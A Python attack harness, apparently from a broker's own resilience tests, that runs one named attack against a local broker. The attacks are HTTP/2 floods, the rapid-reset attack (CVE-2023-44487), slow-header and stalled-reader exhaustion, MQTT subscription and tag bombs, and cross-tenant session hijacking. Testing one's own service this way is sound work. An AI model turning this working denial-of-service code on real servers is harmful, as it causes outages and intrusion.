"""One attack, in a process of its own, which goes on until it is ended.

  python3 attacker.py NAME TARGET     TARGET: the file that world.py writes

Each attack is a function below, named in ATTACKS with what it tries. It speaks raw sockets and
MQTT by hand, as an attacker does, and begins anew whenever it is thrown out. On standard output
it says "begun" once it can be ended by SIGTERM, and at its end how often that was."""

import asyncio
import contextlib
import dataclasses
import itertools
import json
import os
import pathlib
import signal
import select
import socket
import ssl
import struct
import sys
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "support"))

import mqtt  # noqa: E402
from link import DATA, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, LinkClient, \
    attach, batch, frame, image, literal, session_path, settlements, subscription  # noqa: E402

STRANGERS, NEIGHBOURS = "strangers", "neighbours"
ATTACKS = {}  # name -> Attack, in the order of the table
thrown_out = itertools.count()


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    who: str  # STRANGERS have no token; NEIGHBOURS have one of another space
    text: str
    run: object


def attack(who, text):
    def add(function):
        name = function.__name__.replace("_", "-")
        ATTACKS[name] = Attack(name, who, text, function)
        return function
    return add


# ---- a connection of a stranger

def dial(target, alpn="h2", receive_buffer=0):
    """A connection to the broker, with TLS where it wants that."""
    s = socket.socket()
    if receive_buffer:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    s.settimeout(10)
    s.connect(("127.0.0.1", target["port"]))
    if not target["ca"]:
        return s
    context = ssl.create_default_context(cafile=target["ca"])
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(s, server_hostname="localhost")


def headers(stream, method, path, ends, more=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "x")]
    block = b"".join(literal(k, v) for k, v in [*fields, *more])
    return frame(HEADERS, 4 | ends, stream, block)


BLOCKED = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def pour(connection, data):
    """Sends all, and forgets what comes meanwhile, so that only what is sent matters. On one thread:
    OpenSSL's connections are not for two."""
    connection.setblocking(False)
    left = memoryview(data)
    while left:
        with contextlib.suppress(*BLOCKED):
            left = left[connection.send(left):]
        with contextlib.suppress(*BLOCKED):
            while connection.recv(65536):
                pass
        if left:
            select.select([connection], [connection], [], 1)


def repeat(function, connections=1):
    """Runs 'function' for ever on 'connections' threads, anew when it is thrown out."""
    def run():
        while True:
            try:
                function()
            except (OSError, ssl.SSLError):
                time.sleep(0.01)
            next(thrown_out)
    threads = [threading.Thread(target=run, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def flood(target, frames):
    """Sends the bytes 'frames' as fast as they are taken, on two connections."""
    def run():
        with dial(target) as c:
            pour(c, PREFACE + frame(SETTINGS, 0, 0))
            while True:
                pour(c, frames)
    repeat(run, 2)


@attack(STRANGERS, "PING frames without end")
def ping_flood(target):
    flood(target, frame(PING, 0, 0, bytes(8)) * 900)


@attack(STRANGERS, "SETTINGS frames without end, each to be acknowledged")
def settings_flood(target):
    flood(target, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 900)


@attack(STRANGERS, "WINDOW_UPDATE frames without end")
def window_flood(target):
    flood(target, (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) +
                   frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))) * 500)


@attack(STRANGERS, "requests that are reset at once (CVE-2023-44487)")
def rapid_reset(target):
    def run():
        with dial(target) as c:
            pour(c, PREFACE + frame(SETTINGS, 0, 0))
            for first in itertools.count(1, 400):
                pour(c, b"".join(
                    headers(n, "GET", "/v1/links/0000000000000001/deliveries", 1) +
                    frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in range(first, first + 400, 2)))
    repeat(run, 2)


@attack(STRANGERS, "large bodies on many connections, none of them ended")
def bodies(target):
    def run():
        with dial(target) as c:
            pour(c, PREFACE + frame(SETTINGS, 0, 0))
            for n in range(1, 200, 2):
                pour(c, headers(n, "POST", "/v1/sessions/a~b~c/messages?epoch=1", 0))
                for _ in range(64):
                    pour(c, frame(DATA, 0, n, bytes(16384)))
            time.sleep(60)
    repeat(run, 20)


@attack(STRANGERS, "answers that nobody takes: no window, and a receive buffer that is full")
def zero_window(target):
    def run():
        with dial(target, receive_buffer=4096) as c:
            c.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
            c.sendall(headers(1, "GET", "/v1/trust/bundle", 1))
            for n in range(3, 200, 2):
                c.sendall(headers(n, "GET", "/v1/links/0000000000000001/deliveries", 1))
            while True:  # alive, and nothing more
                c.sendall(frame(PING, 0, 0, bytes(8)))
                time.sleep(1)
    repeat(run, 150)


@attack(STRANGERS, "silent connections, more than the broker takes")
def silent(target):
    def run():
        with socket.create_connection(("127.0.0.1", target["port"]), 10) as s:
            s.sendall(b"\x16")  # the first byte of a handshake
            s.settimeout(60)
            if not s.recv(1):
                raise OSError
    repeat(run, 300)


@attack(STRANGERS, "half a request of HTTP/1.1, a byte at a time")
def slow_head(target):
    def run():
        with dial(target, "http/1.1") as c:
            c.sendall(b"POST /v1/sessions/a HTTP/1.1\r\nhost: x\r\n")
            for n in itertools.count():
                c.sendall(b"x-%d: y\r\n" % n)
                time.sleep(0.5)
    repeat(run, 80)


@attack(STRANGERS, "silent connections to the admin endpoint")
def admin_silent(target):
    def run():
        with socket.create_connection(("127.0.0.1", target["admin"]), 10) as s:
            s.sendall(b"GET /li")
            s.settimeout(60)
            if not s.recv(1):
                raise OSError
    repeat(run, 40)


# ---- a neighbour: it has a token, of another space, and a sidecar of its own

def neighbour(run):
    """Runs the coroutine function for ever, anew when it is thrown out."""
    async def go(target):
        while True:
            try:
                await run(target)
            except (OSError, mqtt.Closed, asyncio.TimeoutError, AssertionError):
                await asyncio.sleep(0.05)
            next(thrown_out)

    def start(target):
        asyncio.run(go(target))
    start.__name__ = run.__name__
    return start


async def client(target, name, **options):
    made = mqtt.Client(name, 5)
    connack = await made.connect(target["mqtt"], **options)
    if connack.code != 0:
        await asyncio.sleep(0.05)
        raise mqtt.Closed(connack.code)
    return made


def bearer(target):
    return [("authorization", "Bearer " + pathlib.Path(target["token"]).read_text().strip())]


@attack(NEIGHBOURS, "10,000 requests of one token over HTTP/2 that never come whole, on 100 connections")
def open_requests(target):
    def run():
        with dial(target) as c:
            pour(c, PREFACE + frame(SETTINGS, 0, 0))
            for n in range(1, 200, 2):
                pour(c, headers(n, "POST", "/v1/publish/a", 0, bearer(target)) +
                     frame(DATA, 0, n, bytes(100)))
            c.setblocking(True)
            c.settimeout(60)
            while c.recv(65536):  # alive, and nothing more
                pass
    repeat(run, 100)


@attack(NEIGHBOURS, "10,000 large answers to one token over HTTP/2, of which few bytes are taken at a time")
def slow_readers(target):
    def run():
        with dial(target, receive_buffer=4096) as c:
            c.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
            for n in range(1, 200, 2):
                c.sendall(headers(n, "GET", "/v1/openapi.json", 1, bearer(target)))
            while True:
                for n in range(1, 200, 2):
                    c.sendall(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 8)))
                time.sleep(1)
    repeat(run, 100)


@attack(NEIGHBOURS, "messages of 10,000 equal tags beside 1,000 filters that ask for them")
@neighbour
async def tag_bomb(target):
    taker, maker = await client(target, "taker"), await client(target, "maker")
    levels = "abcdefghij"  # each filter has some of them, and + for the others: all match
    filters = ["$tag/t/" + "/".join("+" if n >> i & 1 else level for i, level in enumerate(levels))
               for n in range(1000)]
    for at in range(0, len(filters), 100):
        await taker.subscribe(*filters[at:at + 100])
    while True:
        await maker.publish("/".join(levels), b"x", 1, props={"user": [("tag", "t")] * 10000})


@attack(NEIGHBOURS, "10,000 filters, subscribed and unsubscribed again and again, over 2,000 retained messages")
@neighbour
async def subscription_bomb(target):
    one = await client(target, "filters")
    for n in range(2000):
        one.publish_nowait(f"kept/{n % 50}/{n}", bytes(64), 1, True)
        if n % 20 == 19:
            await one.publish(f"kept/{n % 50}/{n}", bytes(64), 1, True)
    while True:
        filters = [f"kept/+/{n}/#" for n in range(9990)] + ["kept/#"] + [f"{'+/' * n}#" for n in range(1, 9)]
        for step in (one.subscribe, one.unsubscribe):
            await asyncio.gather(*(step(*filters[at:at + 500]) for at in range(0, len(filters), 500)))


@attack(NEIGHBOURS, "all sessions, retained and delayed messages, keys and queues that there are")
@neighbour
async def quotas(target):
    held = []
    with contextlib.suppress(mqtt.Closed):
        for n in range(400):
            held.append(await client(target, f"held-{n}", props={"session_expiry": 3600}))
            await held[-1].subscribe(f"$share/g{n}/work/{n}/#", f"mine/{n}")
    for n in itertools.count():
        one = held[n % len(held)]
        one.publish_nowait(f"kept/{n}", bytes(1000), 1, True)
        one.publish_nowait("mine/1", bytes(1000), 2, props={
            "user": [("sqmqos-qos", "3"), ("sqmqos-key", f"k{n}")]})
        await one.publish("later", bytes(1000), 1, props={"user": [("sqmqos-delay", "3600")]})


@attack(NEIGHBOURS, "40 subscribers that never read, and a publisher that fills them")
@neighbour
async def stuck_clients(target):
    for n in range(40):
        one = await client(target, f"stuck-{n}")
        await one.subscribe("flood/#", qos=n % 2)
        one.stall()
    maker = await client(target, "maker")
    while True:
        await asyncio.gather(*(maker.publish(f"flood/{n % 7}", bytes(60000), n % 2, timeout_s=60)
                               for n in range(20)))


@attack(NEIGHBOURS, "sessions of others: their keys, epochs, groups and numbers, over a raw link")
@neighbour
async def hijack(target):
    tls = ssl.create_default_context(cafile=target["ca"]) if target["ca"] else None
    if tls:
        tls.set_alpn_protocols(["h2"])
    token = pathlib.Path(target["token"]).read_text().strip()
    link = await LinkClient(target["port"], token, "2", tls=tls, name="localhost").open()
    try:
        assert await link.open_link() == 200
        for n in itertools.count(1):
            key = target["victims"][n % len(target["victims"])]
            answers = [
                await link.request("PUT", session_path(key), attach(link, ordinal=n)),
                await link.request("POST", session_path(key, "/messages", n),
                                   batch(1, n, [(0, image("stolen", b"x"))], mark=0)),
                await link.request("POST", session_path(key, "/settlements", n),
                                   settlements(1000, 1 << 30)),
                await link.request("POST", session_path(key, "/subscriptions", n),
                                   subscription("#", since=0, pod="")),
                await link.request("DELETE", session_path(key, epoch=n))]
            if any(answer.status < 400 for answer in answers):
                print("TAKEN", [answer.status for answer in answers], flush=True)
                os._exit(3)
    finally:
        link.writer.transport.abort()


def main():
    name, target = sys.argv[1], json.loads(pathlib.Path(sys.argv[2]).read_text())

    # Taken by this thread alone: by another one it would wake nobody.
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})
    # An attacker has machines of its own: on ours it takes what the others leave.
    os.nice(19)
    threading.Thread(target=ATTACKS[name].run, args=(target,), daemon=True).start()
    print("begun", flush=True)
    signal.sigwait({signal.SIGTERM})
    print(next(thrown_out), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
